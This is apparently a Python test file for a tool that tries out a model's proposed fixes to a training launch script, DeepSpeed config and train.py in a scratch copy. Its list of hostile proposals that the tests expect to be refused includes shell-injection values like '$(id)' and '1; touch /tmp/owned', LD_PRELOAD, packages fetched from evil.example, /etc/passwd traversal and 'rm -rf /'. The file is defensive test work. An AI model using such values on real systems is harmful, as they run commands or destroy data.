"""A change that a model proposes: carried out in a copy and rehearsed, or refused; nothing of its is a command."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from made_up import Rehearsals, error, project

from gonogo.finding import Finding
from gonogo.finding.second_opinion.model_reading import Proof
from gonogo.rehearse.request import RehearsalRequest
from gonogo.trials.cure.proposed import Proposal, prove_proposals
from gonogo.trials.cure.proposed_code import rejection_reason
from gonogo.trials.cure.request import CureRequest

LAUNCH = "#!/bin/bash\ntorchrun --nproc_per_node 2 train.py --deepspeed ds.json --logging_steps 512\n"
TRAIN = "import os\nimport torch\n\nos.makedirs('out', exist_ok=False)\nSTEPS = 4\nprint(STEPS)\nos.system('ls')\n"
DS = '{"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 3}}\n'


def proof(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cured_by: str, *proposals: Proposal) -> Proof:
    """A run that fails until the words stand in one of its files."""
    folder = tmp_path / "project"
    folder.mkdir()
    project(folder, launch__sh=LAUNCH, train__py=TRAIN, ds__json=DS)
    monkeypatch.chdir(folder)
    scratch = tmp_path / "scratch"
    scratch.mkdir()

    def judge(request: RehearsalRequest) -> tuple[Finding, ...]:
        texts = [path.read_text() for path in Path().iterdir() if path.is_file()] + list(request.with_packages)
        return () if any(cured_by in text for text in texts) else (error("program-raises"),)

    before = {path: path.read_bytes() for path in folder.rglob("*")}
    found = prove_proposals(proposals, CureRequest(RehearsalRequest(["bash", "launch.sh"])), scratch, Rehearsals(judge))
    assert {path: path.read_bytes() for path in folder.rglob("*")} == before
    return found


@pytest.mark.parametrize(
    ("cured_by", "proposal"),
    [
        ("--logging_steps 1024", Proposal("argument", "logging_steps", "1024")),
        ('"stage": 2', Proposal("deepspeed", "zero_optimization.stage", "2")),
        ("NCCL_P2P_DISABLE=1", Proposal("variable", "NCCL_P2P_DISABLE", 1)),
        ("exist_ok=True", Proposal("python", file="train.py", before="exist_ok=False", after="exist_ok=True")),
        ("STEPS = 2", Proposal("python", file="./train.py", before="STEPS = 4", after="STEPS = 2")),
    ],
    ids=lambda value: value if isinstance(value, str) else value.kind,
)
def test_what_cures_is_proven(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cured_by: str, proposal: Proposal
) -> None:
    found = proof(tmp_path, monkeypatch, cured_by, proposal)
    assert found.proven, found.outcome.en
    assert cured_by in found.patch


def test_what_does_not_cure_is_not_proven(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    found = proof(tmp_path, monkeypatch, "never", Proposal("argument", "logging_steps", "1024"))
    assert not found.proven
    assert found.outcome.en == "the error remains"


def test_nothing_is_proven_where_the_run_is_go_as_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    found = proof(tmp_path, monkeypatch, "torchrun", Proposal("argument", "logging_steps", "1024"))
    assert not found.proven
    assert "rehearses as GO even without the change" in found.outcome.en


HOSTILE: list[tuple[dict[str, Any], str]] = [
    ({"kind": "argument", "name": "logging_steps", "value": "1; touch /tmp/owned"}, "not a plain value"),
    ({"kind": "argument", "name": "logging_steps", "value": "$(id)"}, "not a plain value"),
    ({"kind": "argument", "name": "logging_steps", "value": {"a": 1}}, "not a plain value"),
    ({"kind": "argument", "name": "x; reboot", "value": 1}, "not a setting"),
    ({"kind": "variable", "name": "LD_PRELOAD", "value": "x.so"}, "not a setting"),
    ({"kind": "variable", "name": "NCCL_NET_PLUGIN", "value": "evil"}, "not a setting"),
    ({"kind": "variable", "name": "BASH_ENV", "value": "x"}, "not a setting"),
    ({"kind": "variable", "name": "PATH", "value": "."}, "not a setting"),
    ({"kind": "release", "name": "evil-package", "value": "1.0"}, "does not use"),
    ({"kind": "release", "name": "git+https://evil.example/x", "value": "1.0"}, "does not use"),
    ({"kind": "release", "name": "transformers", "value": "@ https://evil.example/x.whl"}, "not a plain value"),
    ({"kind": "release", "name": "torch", "value": "2.0"}, "does not use"),
    ({"kind": "deepspeed", "name": "../../x", "value": "1"}, "not a setting"),
    (
        {"kind": "python", "file": "../../etc/passwd", "before": "root", "after": "x"},
        "not one of the run's Python files",
    ),
    ({"kind": "python", "file": "launch.sh", "before": "torchrun", "after": "reboot"}, "not one of the run's"),
    (
        {"kind": "python", "file": "train.py", "before": "os.system('ls')", "after": "os.system('id')"},
        "arguments of os.system",
    ),
    ({"kind": "python", "file": "train.py", "before": "print(STEPS)", "after": "os.system(STEPS)"}, "adds a call"),
    ({"kind": "python", "file": "train.py", "before": "import torch", "after": "import torch, pty"}, "adds an import"),
    ({"kind": "python", "file": "train.py", "before": "STEPS = 4", "after": "STEPS = evil"}, "uses a new name"),
    ({"kind": "python", "file": "train.py", "before": "STEPS = 4", "after": "STEPS = 'rm -rf ~'"}, "string that is no"),
    ({"kind": "python", "file": "train.py", "before": "STEPS = 4", "after": "STEPS ="}, "not valid Python"),
    ({"kind": "python", "file": "train.py", "before": "S", "after": "x"}, "exactly once"),
    ({"kind": "shell", "name": "rm -rf /"}, "not a setting"),
    ({"kind": "argument", "name": "logging_steps", "value": "512"}, "changes nothing"),
]


@pytest.mark.parametrize(("proposal", "why"), HOSTILE, ids=lambda value: value if isinstance(value, str) else "")
def test_what_is_hostile_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, proposal: dict[str, Any], why: str
) -> None:
    found = proof(tmp_path, monkeypatch, "never", Proposal(**proposal))
    assert not found.proven
    assert found.patch == ""
    assert why in found.outcome.en


@pytest.mark.parametrize(
    ("before", "after", "allowed"),
    [
        ("f(a, b=1)", "f(a, b=2)", True),
        ("f(a, b=1)", "f(a)", True),
        ("f(a)", "f(a, device_map=None)", True),
        ("f(a)", "f(a, attn_implementation='eager')", True),
        ("f(a)\ng(a)", "f(a)", True),
        ("f(a)", "f(f(a))", False),
        ("f(a)", "f(a, x='/etc/passwd')", False),
        ("f(a)", "f(a.b)", False),
        ("def f(): pass", "@f\ndef f(): pass", False),
        ("open('a')", "open('b')", False),
        ("x.load(a, b=True)", "x.load(a, b=False)", True),
        ("x.load(a)", "x.load(b)", False),
        ("os.makedirs(a)", "os.makedirs(a, exist_ok=True)", True),
        ("subprocess.run(a)", "subprocess.run(a, shell=True)", False),
        ("subprocess.run(a)", "subprocess.run(a, executable='sh')", False),
        ("f(a)", "f(a)\nimport os", False),
    ],
)
def test_a_change_of_code_only_gives_other_settings(before: str, after: str, allowed: bool) -> None:
    assert (rejection_reason(before, after) is None) == allowed
